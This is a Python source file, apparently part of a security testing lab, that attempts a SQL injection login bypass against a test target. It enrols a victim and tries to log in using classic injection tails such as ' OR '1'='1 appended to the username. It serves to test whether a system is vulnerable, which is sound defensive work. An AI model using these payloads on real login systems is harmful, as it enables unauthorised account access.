"""Log in with SQL instead of a password.

Exploits a statement that is put together from the input.
Source: OWASP SQL Injection Prevention Cheat Sheet, Defense Option 1,
https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html#defense-option-1-prepared-statements-with-parameterized-queries
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target

TAILS = ("' --", "' OR '1'='1", "' OR 1=1 --")


@attack()
def run(target: Target) -> Outcome:
    """End the statement after the victim's name, so that nothing compares the password."""
    victim = target.enrol()
    target.token_of(victim)
    return judge({f"name{tail}": target.log_in(victim.username + tail, "wrong") for tail in TAILS})
